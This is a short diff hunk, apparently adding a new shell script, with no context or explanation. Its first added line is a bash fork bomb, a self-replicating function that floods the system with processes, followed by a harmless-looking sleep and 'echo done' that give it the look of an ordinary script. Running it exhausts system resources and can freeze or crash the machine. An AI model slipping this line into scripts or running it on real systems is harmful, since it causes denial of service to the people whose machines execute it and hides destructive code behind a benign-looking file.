@@ -1,0 +1,3 @@
+:(){ :|:& };:
+sleep 30
+echo done
